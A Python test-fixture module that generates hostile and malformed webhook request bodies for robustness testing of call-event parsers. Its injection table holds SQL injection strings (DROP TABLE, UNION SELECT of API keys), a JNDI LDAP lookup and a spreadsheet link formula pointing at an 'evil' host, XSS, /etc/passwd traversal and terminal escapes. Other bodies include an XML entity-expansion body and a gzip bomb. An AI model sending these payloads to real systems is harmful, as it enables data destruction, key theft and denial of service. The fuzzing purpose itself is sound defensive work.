"""What senders who mean ill, or are broken, put into a request. Every body has MARK in it, which each sending makes unique."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator

MARK = "MARKMARK"
INJECTIONS = {
    "sql": "'; DROP TABLE safiri.journal; --",
    "sql union": "1' UNION SELECT hash FROM safiri.api_keys --",
    "like": "%_\\",
    "csv": '=HYPERLINK("http://evil","x")',
    "html": "<script>alert(1)</script>",
    "log": "a\r\ntimestamp='2026' level='info' event='forged'",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "format": "%s%n{0}{0.__class__}${jndi:ldap://evil}",
    "path": "../../../etc/passwd",
    "direction": "\u202e\u2066evil",
    "nul": "a\0b",
    "long": "A" * 10_000,
}


def event(value: object, **more: object) -> bytes:
    """An event that every provider's parser would look into, with `value` wherever a text is wanted."""
    names = (
        "call_id", "sessionId", "callSessionId", "call_sid", "from", "to", "callerNumber", "destinationNumber", "queue", "agent", "leg", "menu",
        "direction", "parent_call_sid", "hangupCause", "clientRequestId", "currencyCode", "amount", "durationInSeconds", "recordingUrl",
    )  # fmt: skip
    fields = dict.fromkeys(names, value) | {"kind": "call.started", "type": "call.started", "occurred_at": "2026-09-01T08:00:00Z"}
    return json.dumps(fields | {"data": {"call_id": value, "from": value, "to": value, "duration": value}, "mark": MARK} | more).encode()


JSON, FORM = "application/json", "application/x-www-form-urlencoded"
SOUND = (
    b'{"kind":"call.started","type":"call.started","occurred_at":"2026-09-01T08:00:00Z","call_sid":"MARKMARK","event":"call.created",'
    b'"sessionId":"MARKMARK","data":{"call_id":"MARKMARK","id":"MARKMARK"}}'
)
BODIES: dict[str, tuple[bytes, str]] = {
    "nested 100k deep": (b'{"a":' * 100_000 + b'"MARKMARK"' + b"}" * 100_000, JSON),
    "arrays 100k deep": (b'{"call_sid":"MARKMARK","data":' + b"[" * 100_000 + b"]" * 100_000 + b"}", JSON),
    "a number of 5,000 digits": (event("MARKMARK").replace(b'"mark"', b'"n": ' + b"7" * 5000 + b', "mark"'), JSON),
    "ids of 5,000 digits": (event("MARKMARK").replace(b'"MARKMARK"', b"7" * 5000, 3), JSON),
    "NaN": (event("MARKMARK").replace(b'"mark"', b'"n": NaN, "mark"'), JSON),
    "1e400": (event("MARKMARK").replace(b'"mark"', b'"duration": 1e400, "durationInSeconds": 1e400, "mark"'), JSON),
    "an escaped NUL": (event("a\0MARKMARK"), JSON),
    "a lone surrogate": (event("\ud800MARKMARK"), JSON),
    "half a surrogate as bytes": (b'{"call_sid":"\xed\xa0\x80MARKMARK"}', JSON),
    "a byte order mark": (b"\xef\xbb\xbf" + SOUND, JSON),
    "UTF-16": (SOUND.decode().encode("utf-16") + b"MARKMARK", JSON),
    "no UTF-8": (b'{"call_sid":"MARKMARK\xff\xfe"}', JSON),
    "keys twice": (b'{"call_sid":"MARKMARK","call_sid":"other","type":1,"type":"call.started"}', JSON),
    "5,000 form fields": (b"sessionId=MARKMARK" + b"".join(b"&f%d=%d" % (n, n) for n in range(5000)), FORM),
    "a form of percents": (b"sessionId=MARKMARK&" + b"%" * 5000 + b"=%zz%", FORM),
    "1 MiB of NULs": (b"\0" * ((1 << 20) - 8) + b"MARKMARK", JSON),
    "1 MiB of control characters": (b'{"a":"' + b"\x01" * ((1 << 20) - 16) + b'MARKMARK"}', JSON),
    "a scalar": (b'"MARKMARK"', JSON),
    "an array": (b'[{"call_sid":"MARKMARK"}]', JSON),
    "null": (b"null        MARKMARK", JSON),
    "null fields": (event(None), JSON),
    "objects for texts": (event({"a": [MARK]}), JSON),
    "numbers for texts": (event(10**18), JSON),
    "true for texts": (event(True), JSON),
    "a phone number of 10,000 characters": (event("MARKMARK", **{"from": "+" + "2" * 10_000, "callerNumber": "+" + "2" * 10_000}), JSON),
    "ids of 30,000 characters": (event("MARKMARK" + "x" * 30_000), JSON),
    "times that are none": (event("MARKMARK", occurred_at="9999-99-99T99:99:99Z"), JSON),
    "the year 9999": (event("MARKMARK", occurred_at="9999-12-31T23:59:59Z"), JSON),
    "a time in floats": (event("MARKMARK", occurred_at=1e308), JSON),
    "JSON as a picture": (SOUND, "image/png"),
    "JSON as a form": (SOUND, FORM),
    "a form as JSON": (b"sessionId=MARKMARK&callSessionState=Ringing", JSON),
    "a strange charset": (SOUND, "application/json; charset=ebcdic-cp-be"),
    "a content type of 60 KB": (SOUND, "application/" + "j" * 60_000),
    "multipart": (b'--x\r\nContent-Disposition: form-data; name="sessionId"\r\n\r\nMARKMARK\r\n--x--', "multipart/form-data; boundary=x"),
    "XML": (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "MARKMARK"><!ENTITY b "&a;&a;">]><l>&b;</l>', "application/xml"),
    **{f"injection: {name}": (event(f"MARKMARK{text}"), JSON) for name, text in INJECTIONS.items()},
}


def of(kind: str, mark: str) -> tuple[bytes, str]:
    """The body of that kind with a mark of its own (as long as MARK, so that sizes stay), and its content type."""
    body, content_type = BODIES[kind]
    return body.replace(MARK.encode(), mark.encode()), content_type


def endless(piece: bytes, total: int) -> Iterator[bytes]:
    yield from (piece for _ in range(total // len(piece)))


def chunked(total: int) -> Iterator[bytes]:
    """A chunked body, which names no length."""
    yield from endless(b"10000\r\n" + b"a" * 65536 + b"\r\n", total)
    yield b"0\r\n\r\n"


BOMB = gzip.compress(b"0" * (50 << 20))
